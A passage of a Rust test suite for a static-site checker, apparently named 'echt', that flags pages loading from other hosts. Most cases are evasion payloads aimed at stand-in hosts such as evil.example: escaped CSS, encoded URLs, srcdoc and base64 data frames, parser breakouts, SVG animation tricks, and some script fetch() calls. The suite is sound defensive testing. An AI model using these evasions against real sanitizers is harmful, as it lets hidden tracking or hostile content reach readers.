        [head!(r#"<link rel="preload" as="style" href="https://evil.example/preload">"#)],
        fails("error: `<link href>` loads from another host, `evil.example`", "templates/post.html:6:38"),
    ),
    case!(
        "link-modulepreload",
        [head!(r#"<link rel="modulepreload" href="https://evil.example/modulepreload">"#)],
        fails("error: `<link href>` loads from another host, `evil.example`", "templates/post.html:6:33"),
    ),
    case!(
        "link-prefetch",
        [head!(r#"<link rel="prefetch" href="https://evil.example/prefetch">"#)],
        fails("error: `<link href>` loads from another host, `evil.example`", "templates/post.html:6:28"),
    ),
    case!(
        "link-prerender",
        [head!(r#"<link rel="prerender" href="https://evil.example/prerender">"#)],
        fails("error: `<link href>` loads from another host, `evil.example`", "templates/post.html:6:29"),
    ),
    case!(
        "link-preconnect",
        [head!(r#"<link rel="preconnect" href="https://evil.example/preconnect">"#)],
        fails("error: `<link href>` loads from another host, `evil.example`", "templates/post.html:6:30"),
    ),
    case!(
        "link-dns-prefetch",
        [head!(r#"<link rel="dns-prefetch" href="https://evil.example/dns-prefetch">"#)],
        fails("error: `<link href>` loads from another host, `evil.example`", "templates/post.html:6:32"),
    ),
    case!(
        "link-compression-dictionary",
        [head!(r#"<link rel="compression-dictionary" href="https://evil.example/compression-dictionary">"#)],
        fails("error: `<link href>` loads from another host, `evil.example`", "templates/post.html:6:42"),
    ),
    case!(
        "link-x-unbekannt",
        [head!(r#"<link rel="x-unbekannt" href="https://evil.example/x-unbekannt">"#)],
        fails("error: `<link href>` loads from another host, `evil.example`", "templates/post.html:6:31"),
    ),
    case!(
        "link-alternate-stylesheet",
        [head!(r#"<link rel="alternate stylesheet" href="https://evil.example/alternate">"#)],
        fails("error: `<link href>` loads from another host, `evil.example`", "templates/post.html:6:40"),
    ),
    case!(
        "link-stylesheet-mixed-case",
        [head!(r#"<link rel="StyleSheet" href="https://evil.example/stylesheet">"#)],
        fails("error: `<link href>` loads from another host, `evil.example`", "templates/post.html:6:30"),
    ),
    case!(
        "link-without-rel",
        [head!(r#"<link href="https://evil.example/ohne-rel.css">"#)],
        fails("error: `<link href>` loads from another host, `evil.example`", "templates/post.html:6:13"),
    ),
    case!(
        "link-imagesrcset",
        [head!(r#"<link rel="preload" as="image" href="/bild.png" imagesrcset="/bild.png 1x, https://img.example/preload.png 2x">"#)],
        fails("error: `<link imagesrcset>` loads from another host, `img.example`", "templates/post.html:6:76"),
    ),
    case!(
        "html-manifest-second-tag",
        [head!(r#"<html manifest="https://evil.example/cache.appcache">"#)],
        fails("error: `<html manifest>` loads from another host, `evil.example`", "templates/post.html:6:17"),
    ),
    // URLs spelled to hide their host
    case!(
        "url-protocol-relative",
        [post!(r#"<img src="//img.example/relativ.png" alt="">"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:11"),
    ),
    case!(
        "url-backslashes",
        [post!("<img src=\"\\\\img.example\\backslash.png\" alt=\"\">")],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:11"),
    ),
    case!(
        "url-slash-backslash",
        [post!("<img src=\"/\\img.example/slash-backslash.png\" alt=\"\">")],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:11"),
    ),
    case!(
        "url-entity-slashes",
        [post!(r#"<img src="&#x2F;&#x2F;img.example/entity.png" alt="">"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:11"),
    ),
    case!(
        "url-tab-in-host",
        [post!(r#"<img src="https://img&#9;.example/tab.png" alt="">"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:11"),
    ),
    case!(
        "url-upper-case",
        [post!(r#"<img src="HTTPS://IMG.EXAMPLE/UPPER.PNG" alt="">"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:11"),
    ),
    case!(
        "url-surrounding-space",
        [post!(r#"<img src="  https://img.example/space.png  " alt="">"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:11"),
    ),
    case!(
        "url-userinfo",
        [post!(r#"<img src="https://example.org@img.example/userinfo.png" alt="">"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:11"),
    ),
    case!(
        "url-lookalike-own-host",
        [post!(r#"<img src="https://example.org.img.example/lookalike.png" alt="">"#)],
        fails("error: `<img src>` loads from another host, `example.org.img.example`", "content/posts/a.md:5:11"),
    ),
    case!(
        "url-other-scheme-no-slashes",
        [post!(r#"<img src="http:img.example/no-slashes.png" alt="">"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:11"),
    ),
    case!(
        "url-percent-encoded-host",
        [post!(r#"<img src="https://%69mg.example/percent.png" alt="">"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:11"),
    ),
    // SVG and MathML that fetch
    case!(
        "svg-image-href",
        [post!(r#"<svg width="10" height="10"><image href="https://img.example/svg-image.png" width="10" height="10"/></svg>"#)],
        fails("error: `<image href>` loads from another host, `img.example`", "content/posts/a.md:5:42"),
    ),
    case!(
        "svg-image-xlink-href",
        [post!(r#"<svg width="10" height="10"><image xlink:href="https://img.example/svg-xlink.png" width="10" height="10"/></svg>"#)],
        fails("error: `<image xlink:href>` loads from another host, `img.example`", "content/posts/a.md:5:48"),
    ),
    case!(
        "svg-use-href",
        [post!(r#"<svg><use href="https://evil.example/sprite.svg#icon"/></svg>"#)],
        fails("error: `<use href>` loads from another host, `evil.example`", "content/posts/a.md:5:17"),
    ),
    case!(
        "svg-use-xlink-href",
        [post!(r#"<svg><use xlink:href="https://evil.example/sprite.svg#icon"/></svg>"#)],
        fails("error: `<use xlink:href>` loads from another host, `evil.example`", "content/posts/a.md:5:23"),
    ),
    case!(
        "svg-pattern-href",
        [post!(r#"<svg><pattern id="p" href="https://evil.example/pattern.svg#p"/><rect width="5" height="5" fill="url(#p)"/></svg>"#)],
        fails("error: `<pattern href>` loads from another host, `evil.example`", "content/posts/a.md:5:28"),
    ),
    case!(
        "svg-mpath-href",
        [post!(r#"<svg><circle r="1"><animateMotion dur="1s"><mpath href="https://evil.example/pfad.svg#p"/></animateMotion></circle></svg>"#)],
        fails("error: `<mpath href>` loads from another host, `evil.example`", "content/posts/a.md:5:57"),
    ),
    case!(
        "svg-fill-url",
        [post!(r#"<svg width="10" height="10"><path d="M0 0L9 9" fill="url(https://evil.example/fill.svg#x)"/></svg>"#)],
        fails(CSS_URL, "content/posts/a.md:5:54"),
    ),
    case!(
        "svg-stroke-url",
        [post!(r#"<svg width="10" height="10"><path d="M0 0L9 9" stroke="url(https://evil.example/stroke.svg#x)"/></svg>"#)],
        fails(CSS_URL, "content/posts/a.md:5:56"),
    ),
    case!(
        "svg-mask-url",
        [post!(r#"<svg width="10" height="10"><path d="M0 0L9 9" mask="url(https://evil.example/mask.svg#x)"/></svg>"#)],
        fails(CSS_URL, "content/posts/a.md:5:54"),
    ),
    case!(
        "svg-filter-url",
        [post!(r#"<svg width="10" height="10"><path d="M0 0L9 9" filter="url(https://evil.example/filter.svg#x)"/></svg>"#)],
        fails(CSS_URL, "content/posts/a.md:5:56"),
    ),
    case!(
        "svg-clip-path-url",
        [post!(r#"<svg width="10" height="10"><path d="M0 0L9 9" clip-path="url(https://evil.example/clip-path.svg#x)"/></svg>"#)],
        fails(CSS_URL, "content/posts/a.md:5:59"),
    ),
    case!(
        "svg-marker-start-url",
        [post!(r#"<svg width="10" height="10"><path d="M0 0L9 9" marker-start="url(https://evil.example/marker-start.svg#x)"/></svg>"#)],
        fails(CSS_URL, "content/posts/a.md:5:62"),
    ),
    case!(
        "svg-marker-mid-url",
        [post!(r#"<svg width="10" height="10"><path d="M0 0L9 9" marker-mid="url(https://evil.example/marker-mid.svg#x)"/></svg>"#)],
        fails(CSS_URL, "content/posts/a.md:5:60"),
    ),
    case!(
        "svg-marker-end-url",
        [post!(r#"<svg width="10" height="10"><path d="M0 0L9 9" marker-end="url(https://evil.example/marker-end.svg#x)"/></svg>"#)],
        fails(CSS_URL, "content/posts/a.md:5:60"),
    ),
    case!(
        "svg-cursor-url",
        [post!(r#"<svg width="10" height="10"><path d="M0 0L9 9" cursor="url(https://evil.example/cursor.svg#x), auto"/></svg>"#)],
        fails(CSS_URL, "content/posts/a.md:5:56"),
    ),
    case!(
        "svg-style-attribute",
        [post!(r#"<svg><rect style="fill:url(https://evil.example/style.svg#p)" width="5" height="5"/></svg>"#)],
        fails(CSS_URL, "content/posts/a.md:5:24"),
    ),
    case!(
        "svg-style-split-by-comment",
        [post!(r#"<svg><style>rect{fill:u<!-- Kommentar -->rl(https://evil.example/style.svg#p)}</style><rect width="5" height="5"/></svg>"#)],
        fails(CSS_URL, "content/posts/a.md:5:45"),
    ),
    case!(
        "svg-set-href",
        [post!(r#"<svg width="10" height="10"><image href="/bild.png" width="10" height="10"><set attributeName="href" to="https://img.example/set.png"/></image></svg>"#)],
        fails("error: `<set to>` loads from another host, `img.example`", "content/posts/a.md:5:106"),
    ),
    case!(
        "svg-set-href-upper-case",
        [post!(r#"<svg width="10" height="10"><image width="10" height="10"><set attributeName="HREF" to="https://img.example/set-upper.png"/></image></svg>"#)],
        fails("error: `<set to>` loads from another host, `img.example`", "content/posts/a.md:5:89"),
    ),
    case!(
        "svg-animate-xlink-href-values",
        [post!(r#"<svg width="10" height="10"><image width="10" height="10"><animate attributeName="xlink:href" values="https://img.example/values.png;/bild.png" dur="1s"/></image></svg>"#)],
        fails("error: `<animate values>` loads from another host, `img.example`", "content/posts/a.md:5:103"),
    ),
    case!(
        "svg-animate-href-from",
        [post!(r#"<svg width="10" height="10"><image width="10" height="10"><animate attributeName="href" from="https://img.example/from.png" to="/bild.png" dur="1s"/></image></svg>"#)],
        fails("error: `<animate from>` loads from another host, `img.example`", "content/posts/a.md:5:95"),
    ),
    case!(
        "svg-set-fill-url",
        [post!(r#"<svg width="10" height="10"><rect width="10" height="10"><set attributeName="fill" to="url(https://evil.example/set-fill.svg#p)"/></rect></svg>"#)],
        fails(CSS_URL, "content/posts/a.md:5:88"),
    ),
    case!(
        "svg-xml-base",
        [post!(r#"<svg xml:base="https://evil.example/"><image href="bild.png"/></svg>"#)],
        fails("error: `<svg xml:base>` points to another host, `evil.example`", "content/posts/a.md:5:16"),
    ),
    case!(
        "svg-img-breakout",
        [post!(r#"<svg><img src="https://img.example/breakout.png" alt=""></svg>"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:16"),
    ),
    case!(
        "svg-font-color-breakout",
        [post!(r#"<svg><font color="red"><img src="https://img.example/font.png" alt=""></font></svg>"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:34"),
    ),
    case!(
        "math-mi-img",
        [post!(r#"<math><mi><img src="https://img.example/mi.png" alt=""></mi></math>"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:21"),
    ),
    case!(
        "math-mglyph-src",
        [post!(r#"<math><mi><mglyph src="https://img.example/glyph.png" alt="g"/></mi></math>"#)],
        fails("error: `<mglyph src>` loads from another host, `img.example`", "content/posts/a.md:5:24"),
    ),
    case!(
        "svg-foreignobject-iframe",
        [post!(r#"<svg><foreignObject width="100" height="100"><iframe src="https://evil.example/fo-frame.html"></iframe></foreignObject></svg>"#)],
        fails("error: `<iframe src>` embeds a page from another host, `evil.example`", "content/posts/a.md:5:59"),
    ),
    // Documents inside documents: srcdoc and data:
    case!(
        "srcdoc-img",
        [post!(r#"<iframe srcdoc="<img src=https://img.example/srcdoc.png>"></iframe>"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:26"),
    ),
    case!(
        "srcdoc-entity-encoded",
        [post!(r#"<iframe srcdoc="&lt;img src=&quot;https://img.example/srcdoc-encoded.png&quot;&gt;"></iframe>"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:17"),
    ),
    case!(
        "srcdoc-meta-refresh",
        [post!(r#"<iframe srcdoc="<meta http-equiv=refresh content='0;url=https://evil.example/srcdoc-refresh'>"></iframe>"#)],
        fails("error: `<meta http-equiv=refresh>` sends readers on to another host, `evil.example`", "content/posts/a.md:5:51"),
    ),
    case!(
        "data-frame-img",
        [post!(r#"<iframe src="data:text/html,<img src=https://img.example/data-frame.png>"></iframe>"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:38"),
    ),
    case!(
        "data-frame-base64",
        [post!(r#"<iframe src="data:text/html;base64,PGltZyBzcmM9aHR0cHM6Ly9pbWcuZXhhbXBsZS9iYXNlNjQucG5nPg=="></iframe>"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:14"),
    ),
    case!(
        "data-frame-svg",
        [post!(r#"<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://img.example/data-svg.png' width='9' height='9'/></svg>"></iframe>"#)],
        fails("error: `<image href>` loads from another host, `img.example`", "content/posts/a.md:5:86"),
    ),
    case!(
        "data-stylesheet",
        [post!(r#"<link rel="stylesheet" href="data:text/css,p{background:url(https://evil.example/data-css.png)}">"#)],
        fails(CSS_URL, "content/posts/a.md:5:57"),
    ),
    case!(
        "data-stylesheet-base64",
        [post!(r#"<link rel="stylesheet" href="data:text/css;base64,cHtiYWNrZ3JvdW5kOnVybChodHRwczovL2V2aWwuZXhhbXBsZS9kYXRhLWNzcy1iYXNlNjQucG5nKX0=">"#)],
        fails(CSS_URL, "content/posts/a.md:5:30"),
    ),
    case!(
        "data-import",
        [post!(r#"<style>@import url("data:text/css,p{background:url(https://evil.example/data-import.png)}");</style>"#)],
        fails(CSS_URL, "content/posts/a.md:5:48"),
    ),
    case!(
        "data-import-nested",
        [post!(r#"<style>@import url("data:text/css,@import url(https://evil.example/nested.css);");</style>"#)],
        fails("error: CSS `@import` loads from another host, `evil.example`", "content/posts/a.md:5:43"),
    ),
    // CSS in every spelling
    case!(
        "css-style-attribute",
        [post!(r#"<p style="background:url(https://evil.example/attr.png)">Text</p>"#)],
        fails(CSS_URL, "content/posts/a.md:5:22"),
    ),
    case!(
        "css-escaped-function",
        [post!("<p style=\"background:\\75 rl(https://evil.example/escaped.png)\">Text</p>")],
        fails(CSS_URL, "content/posts/a.md:5:22"),
    ),
    case!(
        "css-long-escape",
        [post!("<p style=\"background:\\000075rl(https://evil.example/long-escape.png)\">Text</p>")],
        fails(CSS_URL, "content/posts/a.md:5:22"),
    ),
    case!(
        "css-upper-case-url",
        [post!(r#"<p style="background:URL('https://evil.example/upper.png')">Text</p>"#)],
        fails(CSS_URL, "content/posts/a.md:5:22"),
    ),
    case!(
        "css-entity-in-function-name",
        [post!(r#"<p style="background:&#x75;rl(https://evil.example/entity.png)">Text</p>"#)],
        fails(CSS_URL, "content/posts/a.md:5:31"),
    ),
    case!(
        "css-entity-quotes",
        [post!(r#"<p style="background:url(&quot;https://evil.example/quot.png&quot;)">Text</p>"#)],
        fails(CSS_URL, "content/posts/a.md:5:32"),
    ),
    case!(
        "css-entity-parenthesis",
        [post!(r#"<p style="background:url&#40;https://evil.example/paren.png)">Text</p>"#)],
        fails(CSS_URL, "content/posts/a.md:5:30"),
    ),
    case!(
        "css-unclosed-url",
        [post!(r#"<p style="background:url(https://evil.example/unclosed.png">Text</p>"#)],
        fails(CSS_URL, "content/posts/a.md:5:22"),
    ),
    case!(
        "css-escaped-colon-in-string",
        [post!("<style>p{background:url(\"https\\3a //evil.example/colon.png\")}</style>")],
        fails(CSS_URL, "content/posts/a.md:5:21"),
    ),
    case!(
        "css-import-string",
        [post!(r#"<style>@import "https://evil.example/import-string.css";</style>"#)],
        fails("error: CSS `@import` loads from another host, `evil.example`", "content/posts/a.md:5:16"),
    ),
    case!(
        "css-import-url",
        [post!("<style>@import url(https://evil.example/import-url.css);</style>")],
        fails("error: CSS `@import` loads from another host, `evil.example`", "content/posts/a.md:5:16"),
    ),
    case!(
        "css-import-escaped-keyword",
        [post!("<style>@\\69mport \"https://evil.example/import-escaped.css\";</style>")],
        fails("error: CSS `@import` loads from another host, `evil.example`", "content/posts/a.md:5:18"),
    ),
    case!(
        "css-import-layer",
        [post!("<style>@import url(https://evil.example/layer.css) layer(basis);</style>")],
        fails("error: CSS `@import` loads from another host, `evil.example`", "content/posts/a.md:5:16"),
    ),
    case!(
        "css-font-face",
        [post!("<style>@font-face{font-family:Fremd;src:url(https://evil.example/font.woff2)}p{font-family:Fremd}</style>")],
        fails("error: `@font-face` loads from another host, `evil.example`", "content/posts/a.md:5:41"),
    ),
    case!(
        "css-image-set-string",
        [post!(r#"<style>p{background-image:image-set("https://evil.example/image-set.png" 1x)}</style>"#)],
        fails(CSS_URL, "content/posts/a.md:5:37"),
    ),
    case!(
        "css-webkit-image-set",
        [post!(r#"<style>p{background-image:-webkit-image-set("https://evil.example/webkit.png" 1x)}</style>"#)],
        fails(CSS_URL, "content/posts/a.md:5:45"),
    ),
    case!(
        "css-image-set-var",
        [post!(r#"<style>p{--bild:"https://evil.example/image-set-var.png";background-image:image-set(var(--bild) 1x)}</style>"#)],
        fails("error: echt cannot tell what this CSS loads: a URL computed with `var()`", "content/posts/a.md:5:85"),
    ),
    case!(
        "css-src-var",
        [post!(r#"<style>p{--bild:"https://evil.example/src-var.png";background-image:src(var(--bild))}</style>"#)],
        fails("error: echt cannot tell what this CSS loads: a URL computed with `var()`", "content/posts/a.md:5:73"),
    ),
    case!(
        "css-var-url",
        [post!("<style>p{--bild:url(https://evil.example/var-url.png);background-image:var(--bild)}</style>")],
        fails(CSS_URL, "content/posts/a.md:5:17"),
    ),
    case!(
        "css-style-attribute-var",
        [post!(r#"<p style="--bild:url(https://evil.example/attr-var.png);background-image:var(--bild)">Text</p>"#)],
        fails(CSS_URL, "content/posts/a.md:5:18"),
    ),
    case!(
        "css-cursor",
        [post!("<style>p{cursor:url(https://evil.example/cursor.cur),auto}</style>")],
        fails(CSS_URL, "content/posts/a.md:5:17"),
    ),
    case!(
        "css-list-style",
        [post!("<style>ul{list-style:url(https://evil.example/list.png)}</style>\n\n- Punkt")],
        fails(CSS_URL, "content/posts/a.md:5:22"),
    ),
    case!(
        "css-content",
        [post!("<style>p::before{content:url(https://evil.example/content.png)}</style>")],
        fails(CSS_URL, "content/posts/a.md:5:26"),
    ),
    case!(
        "css-border-image",
        [post!("<style>p{border:1px solid;border-image:url(https://evil.example/border.png) 30}</style>")],
        fails(CSS_URL, "content/posts/a.md:5:40"),
    ),
    case!(
        "css-mask-image",
        [post!("<style>p{mask-image:url(https://evil.example/mask.png)}</style>")],
        fails(CSS_URL, "content/posts/a.md:5:21"),
    ),
    case!(
        "css-in-media",
        [post!("<style>@media screen{p{background:url(https://evil.example/media.png)}}</style>")],
        fails(CSS_URL, "content/posts/a.md:5:35"),
    ),
    case!(
        "css-in-supports",
        [post!("<style>@supports (display:grid){p{background:url(https://evil.example/supports.png)}}</style>")],
        fails(CSS_URL, "content/posts/a.md:5:46"),
    ),
    case!(
        "css-nested-rule",
        [post!("<style>main{& p{background:url(https://evil.example/nested.png)}}</style>")],
        fails(CSS_URL, "content/posts/a.md:5:28"),
    ),
    case!(
        "css-in-noscript",
        [post!("<noscript><style>p{background:url(https://evil.example/noscript.png)}</style></noscript>")],
        fails(CSS_URL, "content/posts/a.md:5:31"),
    ),
    case!(
        "css-in-select",
        [post!("<select><style>p{background:url(https://evil.example/select.png)}</style></select>")],
        fails(CSS_URL, "content/posts/a.md:5:29"),
    ),
    case!(
        "css-end-tag-in-comment",
        [post!(r#"<style>/* </style><img src="https://img.example/comment.png" alt=""> */</style>"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:29"),
    ),
    // Parser tricks
    case!(
        "noscript-title-breakout",
        [post!(r#"<noscript><p title="</noscript><img src=https://img.example/noscript.png>"></noscript>"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:41"),
    ),
    case!(
        "template-shadow-root",
        [post!(r#"<div><template shadowrootmode="open"><img src="https://img.example/shadow.png" alt=""></template></div>"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:48"),
    ),
    case!(
        "template-contents",
        [post!(r#"<div><template><img src="https://img.example/template.png" alt=""></template></div>"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:26"),
    ),
    case!(
        "comment-bang-end",
        [post!(r#"<!-- Kommentar --!><img src="https://img.example/comment-bang.png" alt=""> -->"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:30"),
    ),
    case!(
        "comment-abrupt-end",
        [post!(r#"<div><!--><img src="https://img.example/comment-abrupt.png" alt="">--></div>"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:21"),
    ),
    case!(
        "xmp-in-svg",
        [post!(r#"<div><svg><xmp><img src="https://img.example/xmp.png" alt=""></xmp></svg></div>"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:26"),
    ),
    case!(
        "select-img",
        [post!(r#"<div><select><img src="https://img.example/select.png" alt=""></select></div>"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:24"),
    ),
    case!(
        "duplicate-attribute",
        [post!(r#"<div><img src="/bild.png" src="https://img.example/duplicate.png" alt=""></div>"#)],
        fails(PARSE, "content/posts/a.md:5:1"),
    ),
    case!(
        "second-html-tag-manifest",
        [post!("Text.\n\n<html manifest=\"https://evil.example/second-html.appcache\">")],
        fails("error: `<html manifest>` loads from another host, `evil.example`", "content/posts/a.md:7:17"),
    ),
    case!(
        "invisible-character-before-doctype",
        [text!("templates/post.html", "\u{200b}<!doctype html>\n<html lang=\"de\">\n<head>\n<meta charset=\"utf-8\">\n<title>{{ page.title }}</title>\n</head>\n<body>\n{{ page.content | safe }}\n</body>\n</html>\n")],
        fails(NOT_HEAD, "templates/post.html:1:1"),
    ),
    // Copied files, judged by what they are
    case!(
        "static-html-img",
        [text!("static/seite.htm", "<!doctype html>\n<title>Seite</title>\n<img src=\"https://img.example/static.png\" alt=\"\">\n")],
        fails("error: `<img src>` loads from another host, `img.example`", "static/seite.htm:3:11"),
    ),
    case!(
        "static-shtml-iframe",
        [text!("static/seite.shtml", "<!doctype html>\n<title>Seite</title>\n<iframe src=\"https://evil.example/static-frame.html\"></iframe>\n")],
        fails("error: `<iframe src>` embeds a page from another host, `evil.example`", "static/seite.shtml:3:14"),
    ),
    case!(
        "static-html-upper-case-extension",
        [text!("static/SEITE.HTML", "<!doctype html>\n<title>Seite</title>\n<script>fetch(\"https://evil.example/upper-extension\")</script>\n")],
        fails(SCRIPT, "static/SEITE.HTML:3:1"),
    ),
    case!(
        "static-html-bom",
        [text!("static/bom.html", "\u{feff}<!doctype html>\n<title>Seite</title>\n<script>fetch(\"https://evil.example/bom\")</script>\n")],
        fails(SCRIPT, "static/bom.html:3:1"),
    ),
    case!(
        "static-html-meta-refresh",
        [text!("static/weiter.html", "<!doctype html>\n<title>Weiter</title>\n<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/static-refresh\">\n")],
        fails("error: `<meta http-equiv=refresh>` sends readers on to another host, `evil.example`", "static/weiter.html:3:37"),
    ),
    case!(
        "static-xhtml-script",
        [text!("static/seite.xhtml", "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<html xmlns=\"http://www.w3.org/1999/xhtml\">\n<head><title>Seite</title></head>\n<body>\n<script>fetch(\"https://evil.example/xhtml\")</script>\n</body>\n</html>\n")],
        fails(SCRIPT, "static/seite.xhtml:5:1"),
    ),
    case!(
        "static-xml-xhtml-prefix-script",
        [text!("static/daten.xml", "<?xml version=\"1.0\"?>\n<daten xmlns:h=\"http://www.w3.org/1999/xhtml\">\n  <h:script>fetch(\"https://evil.example/xml\")</h:script>\n</daten>\n")],
        fails(SCRIPT, "static/daten.xml:3:3"),
    ),
    case!(
        "static-xml-xhtml-img",
        [text!("static/daten2.xml", "<?xml version=\"1.0\"?>\n<daten>\n  <img xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://img.example/xml-img.png\"/>\n</daten>\n")],
        fails("error: `<img src>` loads from another host, `img.example`", "static/daten2.xml:3:50"),
    ),
    case!(
        "static-svg-script",
        [text!("static/logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">\n  <script>fetch(\"https://evil.example/static-svg-script\")</script>\n</svg>\n")],
        fails(SCRIPT, "static/logo.svg:2:3"),
    ),
    case!(
        "static-svg-image",
        [text!("static/logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">\n  <image href=\"https://img.example/static-svg.png\" width=\"10\" height=\"10\"/>\n</svg>\n")],
        fails("error: `<image href>` loads from another host, `img.example`", "static/logo.svg:2:16"),
    ),
    case!(
        "static-svg-other-xlink-prefix",
        [text!("static/logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:l=\"http://www.w3.org/1999/xlink\" width=\"10\" height=\"10\">\n  <image l:href=\"https://img.example/other-prefix.png\" width=\"10\" height=\"10\"/>\n</svg>\n")],
        fails("error: `<image xlink:href>` loads from another host, `img.example`", "static/logo.svg:2:18"),
    ),
    case!(
        "static-svg-default-namespace-prefix",
        [text!("static/logo.svg", "<s:svg xmlns:s=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">\n  <s:image href=\"https://img.example/svg-prefix.png\" width=\"10\" height=\"10\"/>\n</s:svg>\n")],
        fails("error: `<image href>` loads from another host, `img.example`", "static/logo.svg:2:18"),
    ),
    case!(
        "static-svg-foreignobject-img",
        [text!("static/logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100\" height=\"100\">\n  <foreignObject width=\"100\" height=\"100\">\n    <img xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://img.example/fo.png\"/>\n  </foreignObject>\n</svg>\n")],
        fails("error: `<img src>` loads from another host, `img.example`", "static/logo.svg:3:52"),
    ),
    case!(
        "static-svg-doctype-entities",
        [text!("static/logo.svg", "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [\n  <!ENTITY quelle \"https://img.example/entity.png\">\n]>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"&quelle;\"/></svg>\n")],
        fails("error: a DOCTYPE with declarations of its own (entities), which echt cannot check", "static/logo.svg:2:1"),
    ),
    case!(
        "static-svg-doctype-entities-without-brackets",
        [text!("static/logo.svg", "<!DOCTYPE svg <!ENTITY quelle \"https://img.example/entity.png\">>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"&quelle;\"/></svg>\n")],
        fails("error: a DOCTYPE with declarations of its own (entities), which echt cannot check", "static/logo.svg:1:1"),
    ),
    case!(
        "static-svg-xml-stylesheet",
        [text!("static/logo.svg", "<?xml-stylesheet href=\"https://evil.example/svg.css\" type=\"text/css\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"/>\n")],
        fails("error: `<?xml-stylesheet href?>` loads from another host, `evil.example`", "static/logo.svg:1:1"),
    ),
    case!(
        "static-svg-xslt",
        [text!("static/logo.svg", "<?xml-stylesheet href=\"umbau.xsl\" type=\"text/xsl\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"/>\n")],
        fails("error: an XSLT stylesheet turns this file into a page that exists only in the browser", "static/logo.svg:1:1"),
    ),
    case!(
        "static-svg-style-import",
        [text!("static/logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\">\n  <style>@import url(https://evil.example/svg-import.css);</style>\n</svg>\n")],
        fails("error: CSS `@import` loads from another host, `evil.example`", "static/logo.svg:2:18"),
    ),
    case!(
        "static-svg-style-split-by-comment",
        [text!("static/logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\">\n  <style>rect { fill: u<!-- x -->rl(https://evil.example/split.svg#p) }</style>\n  <rect width=\"5\" height=\"5\"/>\n</svg>\n")],
        fails(CSS_URL, "static/logo.svg:2:23"),
    ),
    case!(
        "static-no-extension-html",
        [text!("static/seite", "<!DOCTYPE html>\n<title>Seite</title>\n<script>fetch(\"https://evil.example/sniffed\")</script>\n")],
        fails(SCRIPT, "static/seite:3:1"),
    ),
    case!(
        "static-no-extension-svg",
        [text!("static/zeichen", "<svg xmlns=\"http://www.w3.org/2000/svg\">\n<image href=\"https://img.example/sniffed.png\"/>\n</svg>\n")],
        fails("error: `<image href>` loads from another host, `img.example`", "static/zeichen:2:14"),
    ),
    case!(
        "static-unknown-extension-html",
        [text!("static/seite.php", "<p>Hallo</p>\n<img src=\"https://img.example/php.png\" alt=\"\">\n")],
        fails("error: `<img src>` loads from another host, `img.example`", "static/seite.php:2:11"),
    ),
    case!(
        "static-xml-other-encoding",
        [text!("static/daten.xml", "<?xml version=\"1.0\" encoding=\"iso-8859-1\"?>\n<daten/>\n")],
        fails("error: this XML says it is written in `iso-8859-1`; echt reads only UTF-8", "static/daten.xml:1:1"),
    ),
    case!(
        "static-css-import",
        [text!("static/fremd.css", "@import \"https://evil.example/static-import.css\";\n")],
        fails("error: CSS `@import` loads from another host, `evil.example`", "static/fremd.css:1:9"),
    ),
    case!(
        "static-css-font-face",
        [text!("static/fremd.css", "@font-face {\n  font-family: \"Fremd\";\n  src: url(\"https://evil.example/static-font.woff2\") format(\"woff2\");\n}\np { font-family: \"Fremd\"; }\n")],
        fails("error: `@font-face` loads from another host, `evil.example`", "static/fremd.css:3:8"),
    ),
    case!(
        "static-css-charset-utf-16",
        [text!("static/fremd.css", "@charset \"utf-16\";\np {\n  background: url(https://evil.example/charset-utf-16.png);\n}\n")],
        fails(CSS_URL, "static/fremd.css:3:15"),
    ),
    case!(
        "bundle-html",
